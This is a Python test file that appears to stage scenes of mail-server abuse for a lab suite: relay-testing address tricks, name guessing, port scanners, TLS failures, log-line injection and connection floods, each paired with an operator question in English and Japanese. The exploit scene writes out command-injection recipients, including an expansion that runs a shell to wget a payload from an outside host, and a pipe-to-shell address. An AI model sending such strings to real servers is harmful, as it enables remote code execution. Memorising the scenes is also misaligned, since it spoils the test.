"""Scenes of those who look for a hole: relay testers, scanners, guessers of names, exploits."""

from __future__ import annotations

import contextlib
import ssl
import time

from tests.lab import cast
from tests.lab.cast import DOMAINS, them, us
from tests.lab.features import Features
from tests.lab.plays.incoming import BOTH, REFUSED
from tests.lab.scene import scene
from tests.lab.stage import Stage


@scene(
    "open_relay_test",
    "stopped",
    "One client tries every known trick of addressing (percent, quotes, bang path, source route); all were refused.",
    ("Somebody tests us. Did any of it get through?", "中継テストをされているようです。通ってしまったものはあるのでしょうか。"),
    REFUSED,
    acceptable=("relay_attempt_refused",),
    suites=BOTH,
)
def relay_tester(s: Stage) -> None:
    """Nine tricks on three connections."""
    there, host, ours = f"relaytest@{DOMAINS[1]}", cast.HOST, cast.DOMAIN
    tricks = [
        (f"spamtest@{DOMAINS[1]}", there),
        (f"spamtest@{ours}", there),
        ("", there),
        (f"spamtest@[{cast.ADDRESS}]", there),
        (f"spamtest@{host}", f"relaytest%{DOMAINS[1]}@{ours}"),
        (f"spamtest@{host}", f'"relaytest%{DOMAINS[1]}"'),
        (f"spamtest@{host}", f'"{there}"@{ours}'),
        (f"spamtest@{host}", f"@{ours}:{there}"),
        (f"spamtest@{host}", f"{DOMAINS[1]}!relaytest@{ours}"),
    ]
    for at in range(0, len(tricks), 3):
        client = s.client("scanner2")
        client.hello("probe.test")
        for sender, recipient in tricks[at : at + 3]:
            client.say(f"MAIL FROM:<{sender}>")
            client.say(f"RCPT TO:<{recipient}>")
            client.say("RSET")
        client.quit()


@scene(
    "scan_noise",
    "stopped",
    "One client tries a list of names that do not exist here: guessing of addresses, all refused.",
    ("So many unknown users from one IP. What do they want?", "存在しない宛先が大量に来ています。不正中継でしょうか。"),
    REFUSED,
    acceptable=("brute_force",),
)
def names_guessed(s: Stage) -> None:
    """Twelve names that nobody here has."""
    names = ["adam", "alice", "bob", "carol", "dave", "eve", "frank", "grace", "heidi", "ivan", "judy", "karl"]
    client = s.client("cloud2")
    client.hello("host202.cloud.example")
    for at in range(0, len(names), 4):
        client.mail(them("bounce", 3), [f"{name}@{cast.DOMAIN}" for name in names[at : at + 4]])
        client.say("RSET")
    client.quit()


@scene(
    "scan_noise",
    "fine",
    "Web requests and bare connections on the mail port: scanners, no mail was offered.",
    ("Strange commands on port 25. Are we hacked?", "25番ポートに変な接続があります。侵入されたのでしょうか。"),
    (r"non-SMTP|lost connection|improper command pipelining",),
    suites=BOTH,
)
def web_requests(s: Stage) -> None:
    """A web request, TLS without asking, and two who say nothing."""
    client = s.client("scanner2")
    client.send(f"GET / HTTP/1.1\r\nHost: {cast.ADDRESS}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n".encode())
    time.sleep(0.5)
    client.drop()
    s.client("hosting").drop()
    time.sleep(0.3)
    client = s.client("scanner")
    client.read()
    client.send(b"\x16\x03\x01\x01\x00\x01\x00\x01\xfc\x03\x03\x9b\x10\r\n\x00\x01\r\n")
    time.sleep(0.5)
    client.drop()
    client = s.client("dialup")
    client.hello("masscan")
    client.drop()


@scene(
    "scan_noise",
    "fine",
    "Clients began TLS and failed: a scanner, and one that does not trust our certificate. No mail was offered.",
    ("TLS errors: is our certificate broken, are we attacked?", "TLS のエラーが出ます。攻撃でしょうか。"),
    (r"SSL_accept error|TLS library problem",),
    acceptable=("delivery_problem", "server_fault"),
    features=Features(tls=True),
)
def encryption_fails(s: Stage) -> None:
    """Plain text where TLS was to begin, and a certificate that is not trusted."""
    client = s.client("scanner2")
    client.hello("scan")
    client.say("STARTTLS")
    client.send(b"GET / HTTP/1.0\r\n\r\n")
    time.sleep(0.4)
    client.drop()
    client = s.client("cable")
    client.hello("old-client")
    with contextlib.suppress(ssl.SSLError, OSError):
        client.begin_tls(ssl.create_default_context())
    client.drop()


@scene(
    "exploit_attempt",
    "stopped",
    "The addresses carry shell or expansion code aimed at known holes; the server refused them.",
    ("What are these weird recipients?", "宛先に変な文字列があります。これは何でしょうか。"),
    REFUSED,
    acceptable=("scan_noise", "relay_attempt_refused"),
)
def exploit(s: Stage) -> None:
    """Code in place of names."""
    client = s.client("hosting2")
    client.hello("localhost")
    client.say(f"MAIL FROM:<{them('support', 2)}>")
    client.say(f"RCPT TO:<${{run{{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20198.51.100.10\\x2Fx\\x22}}}}@{cast.DOMAIN}>")
    client.say(f"RCPT TO:<\"|/bin/sh -c 'id>/tmp/x'\"@{cast.DOMAIN}>")
    client.quit()


@scene(
    "relay_attempt_refused",
    "stopped",
    "A stranger put whole log lines into its name and its sender; they stay what they are, names, and its attempt was refused.",
    ("Was this mail sent or not?", "このメールは送信されたのでしょうか。"),
    REFUSED,
    acceptable=("scan_noise", "exploit_attempt"),
)
def log_lines_as_names(s: Stage) -> None:
    """A HELO and a sender that look like entries of a log."""
    client = s.client("cloud")
    client.read()
    client.say("HELO x Jun 11 12:00:00 mail postfix/smtp[7]: 1A2B3C4D5E: to=<a@example.net>, status=sent (250 queued)")
    client.mail('"Jun 11 12:00:00 mail postfix/smtpd[7]: 1A2B3C4D5E: client=unknown[203.0.113.9]"@example.net', them("ann"))
    client.quit()


@scene(
    "relay_attempt_refused",
    "stopped",
    "A mixed quarter of an hour: mail in, mail out, one scanner, and one relay attempt that was refused. Nothing bad happened.",
    ("Is anything wrong in this log?", "このログに問題はあるのでしょうか。"),
    REFUSED,
    acceptable=("normal_inbound", "own_mail"),
    features=Features(auth=True),
    proof=lambda s: len(s.received()) == 2,
    suites=BOTH,
)
def mixed_day(s: Stage) -> None:
    """What a server sees in a quarter of an hour."""
    s.send("partner", "out.example.net", them("kate"), us(), subject="Order")
    s.send("pc", "pc1.example.com", us(1), them("orders", 1), subject="Offer")
    s.client("scanner").drop()
    s.send("hosting", "WIN-LJU4TQ6KO2B", them("wei", 2), them("lottery.desk", 3))
    s.send("dialup", "[192.168.43.17]", us(2), them("kate"), login=us(2))
    s.send("partner", "out.example.net", them("m.dietrich"), [us(), us(1)], subject="Re: proofs")


@scene(
    "scan_noise",
    "fine",
    "Connections to the IMAP port that never tried to log in: scanners or health checks.",
    ("What are these disconnects?", "この Disconnected は何でしょうか。"),
    (r"no auth attempts|no_auth_attempts|Disconnected|Aborted",),
    features=Features(auth=True),
)
def mailbox_port_scanned(s: Stage) -> None:
    """Three who say nothing, one who asks what the server can do."""
    for place in ("scanner", "hosting", "scanner"):
        client = s.client(place, 143)
        client.read()
        client.drop()
        time.sleep(0.3)
    client = s.client("scanner2", 143)
    client.read()
    client.say("a1 CAPABILITY")
    client.say("a2 LOGOUT")
    client.drop()


@scene(
    "scan_noise",
    "stopped",
    "One client connects far too often and is held back.",
    ("What is 'rate limit exceeded'?", "rate limit exceeded とは何でしょうか。"),
    (r"rate limit exceeded",),
    acceptable=("normal_inbound", "delivery_problem", "brute_force"),
    features=Features(rate=3),
)
def too_many_connections(s: Stage) -> None:
    """Eight connections within a second."""
    for _ in range(8):
        client = s.client("cloud2")
        client.read()
        client.quit()
